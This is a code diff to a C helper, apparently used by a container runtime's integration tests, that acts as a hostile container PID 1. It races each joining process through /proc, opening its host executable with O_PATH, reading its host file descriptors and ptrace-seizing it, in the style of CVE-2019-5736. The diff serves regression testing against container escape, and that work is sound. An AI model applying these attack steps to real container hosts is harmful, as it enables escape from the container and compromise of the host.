@@ -2,22 +2,21 @@
  * The container's PID 1 attacking every process a join puts into it
  * (CVE-2019-5736 / CVE-2016-9962 class), used by tests/integration/joinsec.rs.
  *
- *   ptrace_join RESULTS NSINIT_DEV NSINIT_INO HOLD
+ *   ptrace_join RESULTS NSINIT_DEV NSINIT_INO
  *
- * It replaces /etc/passwd by a FIFO: the joining nsinit reads /etc/passwd
- * (to resolve the user) before it execs, so every join stalls in that read
- * until the attacker feeds it. While a reader is stalled, every other process
- * it can see in /proc is attacked:
+ * It watches /proc without pause and attacks every new process the moment it
+ * appears: a joining nsinit is in the container from its fork into the PID
+ * namespace until its execve, and nothing the container owns can hold it
+ * there (its /etc/passwd is opened non-blocking and must be a regular file),
+ * so the attacker races it. Each new process it sees is attacked, and
+ * attacked again once it runs another program than nsinit:
  *   - open("/proc/PID/exe", O_PATH): the host nsinit binary when the inode is
  *     NSINIT_DEV:NSINIT_INO (a handle to overwrite it later),
  *   - readlink of every /proc/PID/fd/N (the caller's host descriptors),
  *   - PTRACE_SEIZE (then interrupt + detach, so the victim goes on).
  * One line per victim is appended to RESULTS:
  *   pid=N comm=C exe=OK-NSINIT|OK-OTHER|<errno> fd=OK:<links>|<errno> seize=OK|<errno>
- * Then a fresh FIFO replaces /etc/passwd for the next join, the saved
- * passwd is written to the old one and the loop waits for the next reader. With HOLD=1, after attacking the first stalled reader the
- * attacker creates /held and waits for /release before feeding it, so the
- * host can inspect the stalled process. /ready appears once set up.
+ * /ready appears once it watches.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -62,16 +61,23 @@ static const char *err(int e)
 	}
 }
 
-static void attack(int pid, unsigned long dev, unsigned long ino)
+static void read_comm(int pid, char *comm, size_t size)
 {
-	char path[64], comm[32] = "?", exe[32], fds[1024] = "", line[1400];
+	char path[64];
 	snprintf(path, sizeof path, "/proc/%d/comm", pid);
+	snprintf(comm, size, "?");
 	int c = open(path, O_RDONLY);
 	if (c >= 0) {
-		ssize_t n = read(c, comm, sizeof comm - 1);
+		ssize_t n = read(c, comm, size - 1);
 		comm[n > 0 ? n - 1 : 0] = 0;
 		close(c);
 	}
+}
+
+static void attack(int pid, unsigned long dev, unsigned long ino)
+{
+	char path[64], comm[64], after[32], exe[32], fds[1024] = "", line[1400];
+	read_comm(pid, comm, sizeof comm);
 
 	snprintf(path, sizeof path, "/proc/%d/exe", pid);
 	int e = open(path, O_PATH);
@@ -124,54 +130,45 @@ static void attack(int pid, unsigned long dev, unsigned long ino)
 		ptrace(PTRACE_DETACH, pid, 0, 0);
 	}
 
+	/* A victim that exec'd meanwhile is named by both names: it was
+	 * not the same program for the whole attack. */
+	read_comm(pid, after, sizeof after);
+	if (strcmp(comm, after) != 0) {
+		size_t used = strlen(comm);
+		snprintf(comm + used, sizeof comm - used, ">%s", after);
+	}
 	snprintf(line, sizeof line, "pid=%d comm=%s exe=%s fd=%s seize=%s\n", pid, comm, exe, fdres, seize);
 	record(line);
 }
 
 int main(int argc, char **argv)
 {
-	if (argc != 5)
+	if (argc != 4)
 		return 2;
 	results = argv[1];
 	unsigned long dev = strtoul(argv[2], NULL, 10), ino = strtoul(argv[3], NULL, 10);
-	int hold = atoi(argv[4]);
-
-	static char passwd[65536];
-	int p = open("/etc/passwd", O_RDONLY);
-	if (p < 0)
-		return 3;
-	ssize_t len = read(p, passwd, sizeof passwd);
-	close(p);
-	if (len <= 0 || unlink("/etc/passwd") != 0 || mkfifo("/etc/passwd", 0644) != 0)
-		return 4;
+	/* PIDs of a new PID namespace only grow in a test this short. */
+	static unsigned char seen[1 << 16];
+	seen[getpid()] = 2;
 	touch("/ready");
-
-	for (int round = 0;; round++) {
-		/* Blocks until a reader (a joining process) opens the FIFO. */
-		int w = open("/etc/passwd", O_WRONLY);
-		if (w < 0)
-			return 5;
+	for (;;) {
 		DIR *d = opendir("/proc");
 		if (!d)
 			return 6;
 		struct dirent *de;
 		while ((de = readdir(d))) {
 			int pid = atoi(de->d_name);
-			if (pid > 0 && pid != getpid())
-				attack(pid, dev, ino);
+			if (pid <= 0 || pid >= (int)sizeof seen || seen[pid] == 2)
+				continue;
+			/* Once as the joining nsinit, once more as what it exec'd. */
+			char comm[32];
+			read_comm(pid, comm, sizeof comm);
+			int joining = strcmp(comm, "nsinit") == 0;
+			if (seen[pid] == 1 && joining)
+				continue;
+			seen[pid] = joining ? 1 : 2;
+			attack(pid, dev, ino);
 		}
 		closedir(d);
-		if (hold && round == 0) {
-			touch("/held");
-			while (access("/release", F_OK) != 0)
-				usleep(10000);
-		}
-		/* A fresh FIFO for the next join: this reader keeps the old one
-		 * until it reads EOF, and must not be seen twice. */
-		if (mkfifo("/etc/passwd.next", 0644) != 0 || rename("/etc/passwd.next", "/etc/passwd") != 0)
-			return 8;
-		if (write(w, passwd, len) != len)
-			return 7;
-		close(w);
 	}
 }
